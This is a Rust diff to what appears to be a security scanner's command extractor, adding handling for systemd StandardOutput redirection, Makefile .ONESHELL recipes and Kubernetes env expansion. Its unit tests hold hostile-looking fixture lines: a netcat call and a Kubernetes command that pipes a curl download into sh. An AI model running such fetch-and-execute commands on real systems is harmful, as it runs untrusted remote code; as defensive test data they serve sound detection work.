@@ -157,9 +157,25 @@ pub fn cron(text: &str, system: bool, is_program: &dyn Fn(&str) -> bool) -> Vec<
 }
 
 /// systemd unit or drop-in: `Exec*=` values (`-`, `@`, `+`, `!`, `:`
-/// prefixes dropped), `Environment=` settings as variables they use.
+/// prefixes dropped), `Environment=` settings as variables they use;
+/// `StandardOutput=file:PATH` (`append:`, `truncate:`) becomes a
+/// redirection of each command's output to PATH.
 pub fn unit(text: &str) -> Vec<Segment> {
-    logical_lines(text, '\\')
+    let lines = logical_lines(text, '\\');
+    let stdout = lines.iter().rev().find_map(|(_, l)| {
+        let v = l.trim().strip_prefix("StandardOutput=")?.trim();
+        let (op, path) = match v.split_once(':')? {
+            ("file" | "truncate", p) => (">", p),
+            ("append", p) => (">>", p),
+            _ => return None,
+        };
+        (!path.is_empty() && !path.contains(char::is_whitespace)).then(|| format!(" {op} {path}"))
+    });
+    let redirect = |v: &str| match &stdout {
+        Some(r) => format!("{v}{r}"),
+        None => v.to_string(),
+    };
+    lines
         .into_iter()
         .filter_map(|(n, l)| {
             let (k, v) = l.split_once('=')?;
@@ -171,7 +187,7 @@ pub fn unit(text: &str) -> Vec<Segment> {
             k.starts_with("Exec").then(|| {
                 seg(
                     Lang::Sh,
-                    v.trim_start_matches(['-', '@', '+', '!', ':', '|']),
+                    redirect(v.trim_start_matches(['-', '@', '+', '!', ':', '|'])),
                     n,
                 )
             })
@@ -377,6 +393,10 @@ pub fn makefile(text: &str) -> Vec<Segment> {
     let lines = logical_lines(text, '\\');
     let vars = make_vars(&lines);
     let mut out = Vec::new();
+    let oneshell = lines.iter().any(|(_, l)| l.trim_end() == ".ONESHELL:");
+    if oneshell {
+        out.extend(oneshell_recipes(&lines, &vars));
+    }
     for (n, l) in &lines {
         let recipe = if let Some(r) = l.strip_prefix('\t') {
             Some(r)
@@ -393,7 +413,7 @@ pub fn makefile(text: &str) -> Vec<Segment> {
         for sh in make_shell_calls(&expanded) {
             out.push(seg(Lang::Sh, sh, *n));
         }
-        if let Some(r) = recipe {
+        if let Some(r) = recipe.filter(|_| !(oneshell && l.starts_with('\t'))) {
             let r = make_expand(r, &vars, 0);
             let r = r
                 .trim_start()
@@ -401,6 +421,66 @@ pub fn makefile(text: &str) -> Vec<Segment> {
             out.push(seg(Lang::Sh, r.replace("$$", "$"), *n));
         }
     }
+    out
+}
+
+/// Programs a Makefile's `SHELL` may name that read code, not shell, from
+/// a recipe under `.ONESHELL`.
+const MAKE_INTERPRETERS: &[&str] = &["python", "perl", "ruby", "node", "php"];
+
+/// Under `.ONESHELL:` each recipe (a run of tab lines) is one script: in
+/// the shell, or, with `SHELL := python3` (or another interpreter), fed
+/// to that interpreter as a here-doc so it is scanned as its own code.
+fn oneshell_recipes(
+    lines: &[(usize, String)],
+    vars: &std::collections::HashMap<String, String>,
+) -> Vec<Segment> {
+    let shell = vars
+        .get("SHELL")
+        .map(|s| s.trim().to_string())
+        .unwrap_or_default();
+    let interp = shell
+        .split_whitespace()
+        .next()
+        .and_then(|p| p.rsplit('/').next())
+        .filter(|p| {
+            MAKE_INTERPRETERS
+                .contains(&p.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
+        })
+        .map(str::to_string);
+    let mut out = Vec::new();
+    let mut body = String::new();
+    let mut first = 0;
+    let flush = |body: &mut String, first: usize, out: &mut Vec<Segment>| {
+        if body.is_empty() {
+            return;
+        }
+        let text = match &interp {
+            Some(p) => format!("{p} - <<'__MAKE_RECIPE__'\n{body}__MAKE_RECIPE__\n"),
+            None => body.clone(),
+        };
+        out.push(seg(Lang::Sh, text, first));
+        body.clear();
+    };
+    for (n, l) in lines {
+        match l.strip_prefix('\t') {
+            Some(r) => {
+                if body.is_empty() {
+                    first = *n;
+                }
+                let r = make_expand(r, vars, 0).replace("$$", "$");
+                let r = if body.is_empty() {
+                    r.trim_start_matches(['@', '-', '+', ' ', '\t']).to_string()
+                } else {
+                    r
+                };
+                body.push_str(&r);
+                body.push('\n');
+            }
+            None => flush(&mut body, first, &mut out),
+        }
+    }
+    flush(&mut body, first, &mut out);
     out
 }
 
@@ -579,6 +659,48 @@ fn shell_words(items: &[String]) -> String {
 /// YAML: values of command-like keys (Kubernetes, compose, CI files).
 pub fn yaml(text: &str) -> Vec<Segment> {
     let lines: Vec<&str> = text.lines().collect();
+    let mut out = yaml_commands(&lines);
+    let env = k8s_env(&lines);
+    if !env.is_empty() {
+        for s in &mut out {
+            for (name, value) in &env {
+                let var = format!("$({name})");
+                if s.text.contains(&var) {
+                    s.text = s.text.replace(&var, value);
+                }
+            }
+        }
+    }
+    out
+}
+
+/// Kubernetes `env:` entries (`- name: X` then `value: Y`), which the
+/// kubelet expands as `$(X)` in `command`/`args`; at most 256.
+fn k8s_env(lines: &[&str]) -> Vec<(String, String)> {
+    let mut env = Vec::new();
+    for w in lines.windows(2) {
+        let Some(name) = w[0].trim_start().strip_prefix("- name:") else {
+            continue;
+        };
+        let Some(value) = w[1].trim_start().strip_prefix("value:") else {
+            continue;
+        };
+        let name = yaml_scalar(name.trim());
+        if !name.is_empty()
+            && name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
+        {
+            env.push((name, yaml_scalar(value.trim())));
+        }
+        if env.len() >= 256 {
+            break;
+        }
+    }
+    env
+}
+
+fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
     let mut out = Vec::new();
     let indent = |l: &str| l.len() - l.trim_start().len();
     let mut i = 0;
@@ -599,13 +721,13 @@ pub fn yaml(text: &str) -> Vec<Segment> {
         let line_no = i + 1;
         i += 1;
         if value.starts_with('[') {
-            let (value, next) = flow_lines(&lines, i, value);
+            let (value, next) = flow_lines(lines, i, value);
             i = next;
             if let Some(items) = yaml_flow(&value) {
                 push_items(&items, line_no, &mut out);
             }
         } else if value.starts_with('|') || value.starts_with('>') {
-            let (body, next) = block(&lines, i, base);
+            let (body, next) = block(lines, i, base);
             out.push(seg(Lang::Sh, body, line_no + 1));
             i = next;
         } else if value.is_empty() || value.starts_with('#') {
@@ -630,7 +752,7 @@ pub fn yaml(text: &str) -> Vec<Segment> {
                     first = i + 1;
                 }
                 if item.starts_with('|') || item.starts_with('>') {
-                    let (body, next) = block(&lines, i + 1, indent(li));
+                    let (body, next) = block(lines, i + 1, indent(li));
                     out.push(seg(Lang::Sh, body.clone(), i + 2));
                     items.push(body);
                     i = next;
@@ -747,6 +869,40 @@ mod tests {
                 ("install -m 755 t $(DESTDIR)/bin", 8),
             ]
         );
+    }
+
+    #[test]
+    fn unit_standard_output_file_is_a_redirection() {
+        let s = unit("[Service]\nExecStart=nc h 1\nStandardOutput=append:/x\n");
+        assert_eq!(s[0].text, "nc h 1 >> /x");
+        let s = unit("[Service]\nExecStart=nc h 1\nStandardOutput=journal\n");
+        assert_eq!(s[0].text, "nc h 1");
+    }
+
+    #[test]
+    fn oneshell_recipe_is_one_script_in_its_shell() {
+        let s = makefile(
+            ".ONESHELL:\nSHELL := /usr/bin/python3\nall:\n\t@import os\n\tos.getcwd()\nx:\n\ttrue\n",
+        );
+        let texts: Vec<(&str, usize)> = s.iter().map(|x| (x.text.as_str(), x.line)).collect();
+        assert_eq!(
+            texts,
+            [
+                (
+                    "python3 - <<'__MAKE_RECIPE__'\nimport os\nos.getcwd()\n__MAKE_RECIPE__\n",
+                    4
+                ),
+                ("python3 - <<'__MAKE_RECIPE__'\ntrue\n__MAKE_RECIPE__\n", 7),
+            ]
+        );
+    }
+
+    #[test]
+    fn k8s_env_is_expanded_in_commands() {
+        let s = yaml(
+            "env:\n  - name: U\n    value: http://h/x\ncommand: [\"sh\", \"-c\", \"curl $(U) | sh\"]\n",
+        );
+        assert!(s.iter().any(|x| x.text == "curl http://h/x | sh"), "{s:?}");
     }
 
     #[test]
